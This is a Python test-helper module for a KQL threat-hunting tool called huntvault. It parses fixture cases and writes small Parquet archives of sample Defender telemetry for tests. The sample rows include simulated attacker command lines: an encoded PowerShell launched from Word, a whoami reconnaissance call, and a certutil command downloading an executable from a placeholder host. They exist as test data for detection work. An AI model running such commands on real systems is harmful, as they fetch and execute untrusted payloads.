"""KQL test helpers: the fixture-case file format (query, `----`, expected JSON rows or `error:`), and tiny archives."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from huntvault import schema

CASES_DIR = Path(__file__).resolve().parents[1] / "kql_cases"
NOW = datetime(2024, 6, 15, 12, 0, 0, tzinfo=UTC)  # the fixed now() of every fixture case
CASE_SEPARATOR = "===="
RESULT_SEPARATOR = "----"


@dataclass
class Case:
    """One fixture case: a query and either the expected rows or an expected error fragment."""

    file: str
    index: int
    query: str
    expected: list[dict[str, Any]] | None
    error: str | None
    ordered: bool
    spark: bool

    @property
    def id(self) -> str:
        return f"{self.file}#{self.index}"


def load_cases(directory: Path = CASES_DIR) -> list[Case]:
    """Every case of every `*.kql` file: blocks split on `====` lines, query and result split on `----`.

    Result forms: a JSON array of row objects (compared ignoring row order unless the block has a
    `# ordered` line), or `error: fragment`. A `# spark` line also runs the case on Spark.
    """
    cases: list[Case] = []
    for path in sorted(directory.glob("*.kql")):
        blocks = [b for b in _split(path.read_text(encoding="utf-8"), CASE_SEPARATOR) if b.strip()]
        for i, block in enumerate(blocks, start=1):
            lines = block.splitlines()
            flags = {ln.strip() for ln in lines if ln.strip().startswith("# ")}
            body = "\n".join(ln for ln in lines if not ln.strip().startswith("# "))
            if RESULT_SEPARATOR not in body.splitlines():
                raise ValueError(f"{path.name} case {i}: no '{RESULT_SEPARATOR}' line")
            qlines, rlines = _split_once(body.splitlines(), RESULT_SEPARATOR)
            result = "\n".join(rlines).strip()
            expected = None
            error = None
            if result.startswith("error:"):
                error = result[len("error:") :].strip()
            else:
                expected = json.loads(result)
            cases.append(
                Case(
                    path.stem,
                    i,
                    "\n".join(qlines).strip(),
                    expected,
                    error,
                    "# ordered" in flags,
                    "# spark" in flags,
                )
            )
    return cases


def _split(text: str, sep: str) -> list[str]:
    out: list[str] = []
    cur: list[str] = []
    for ln in text.splitlines():
        if ln.strip() == sep:
            out.append("\n".join(cur))
            cur = []
        else:
            cur.append(ln)
    out.append("\n".join(cur))
    return out


def _split_once(lines: list[str], sep: str) -> tuple[list[str], list[str]]:
    i = [ln.strip() for ln in lines].index(sep)
    return lines[:i], lines[i + 1 :]


def _settled(value: Any) -> Any:
    """Floats to 14 significant digits (inside arrays and bags too): a least-squares fit's last bits depend on
    the BLAS build under numpy, not on huntvault."""
    if isinstance(value, float):
        return float(f"{value:.14g}")
    if isinstance(value, list):
        return [_settled(v) for v in value]
    if isinstance(value, dict):
        return {k: _settled(v) for k, v in value.items()}
    return value


def canonical(rows: list[dict[str, Any]], ordered: bool) -> list[str]:
    # column order matters (Kusto's output shape); key order inside dynamic bags does not
    out = [
        "{"
        + ", ".join(
            f"{json.dumps(k)}: {json.dumps(_settled(v), sort_keys=True, default=str)}" for k, v in r.items()
        )
        + "}"
        for r in rows
    ]
    return out if ordered else sorted(out)


def write_archive(root: Path, rows_by_table: dict[str, list[dict[str, Any]]]) -> Path:
    """A small archive written by the archive package itself (manifest, day partitions, dedupe)."""
    from huntvault.archive import Archive

    with Archive(root) as archive:
        for table, rows in rows_by_table.items():
            wire = [
                {
                    k: (v.strftime("%Y-%m-%dT%H:%M:%S.%fZ") if isinstance(v, datetime) else v)
                    for k, v in r.items()
                }
                for r in rows
            ]
            archive.append_rows(table, wire, source="tests")
    return root


def write_raw_parquet(root: Path, rows_by_table: dict[str, list[dict[str, Any]]]) -> Path:
    """Hand-made Parquet in the archive layout `<Table>/date=YYYY-MM-DD/part-0.parquet`, without a manifest."""
    for table, rows in rows_by_table.items():
        t = schema.get_table(table)
        assert t is not None, table
        arrow_schema = t.arrow_schema()
        by_day: dict[str, list[dict[str, Any]]] = {}
        for r in rows:
            by_day.setdefault(r[t.time_column].strftime("%Y-%m-%d"), []).append(r)
        for day, day_rows in by_day.items():
            columns = {}
            for f in arrow_schema:
                default = (
                    ""
                    if pa.types.is_string(f.type) and f.name not in ("AdditionalFields", "_Extra")
                    else None
                )
                columns[f.name] = pa.array([r.get(f.name, default) for r in day_rows], type=f.type)
            folder = root / table / f"date={day}"
            folder.mkdir(parents=True, exist_ok=True)
            pq.write_table(pa.table(columns, schema=arrow_schema), folder / "part-0.parquet")
    return root


def sample_rows() -> dict[str, list[dict[str, Any]]]:
    """A few hand-made Defender rows used by the archive tests."""

    def ts(day: int, hour: int, minute: int = 0) -> datetime:
        return datetime(2024, 6, day, hour, minute, tzinfo=UTC)

    proc = [
        {
            "Timestamp": ts(14, 10),
            "DeviceId": "d1",
            "DeviceName": "host-a",
            "ActionType": "ProcessCreated",
            "FileName": "powershell.exe",
            "ProcessCommandLine": "powershell.exe -enc SQBFAFgA -nop",
            "InitiatingProcessFileName": "winword.exe",
            "AccountName": "alice",
            "ReportId": 1,
            "AdditionalFields": '{"Tag":"x","Items":[1,2]}',
        },
        {
            "Timestamp": ts(14, 11),
            "DeviceId": "d1",
            "DeviceName": "host-a",
            "ActionType": "ProcessCreated",
            "FileName": "cmd.exe",
            "ProcessCommandLine": "cmd.exe /c whoami",
            "InitiatingProcessFileName": "explorer.exe",
            "AccountName": "alice",
            "ReportId": 2,
            "AdditionalFields": None,
        },
        {
            "Timestamp": ts(15, 9, 30),
            "DeviceId": "d2",
            "DeviceName": "host-b",
            "ActionType": "ProcessCreated",
            "FileName": "certutil.exe",
            "ProcessCommandLine": "certutil -urlcache -f http://x/a.exe",
            "InitiatingProcessFileName": "cmd.exe",
            "AccountName": "bob",
            "ReportId": 3,
            "AdditionalFields": '{"Tag":"y","Items":[]}',
        },
    ]
    net = [
        {
            "Timestamp": ts(14, 10, 5),
            "DeviceId": "d1",
            "DeviceName": "host-a",
            "ActionType": "ConnectionSuccess",
            "RemoteIP": "10.1.2.3",
            "RemotePort": 443,
            "RemoteUrl": "evil.example.com",
            "ReportId": 7,
        },
        {
            "Timestamp": ts(15, 9, 31),
            "DeviceId": "d2",
            "DeviceName": "host-b",
            "ActionType": "ConnectionSuccess",
            "RemoteIP": "8.8.8.8",
            "RemotePort": 53,
            "RemoteUrl": "",
            "ReportId": 8,
        },
    ]
    return {"DeviceProcessEvents": proc, "DeviceNetworkEvents": net}
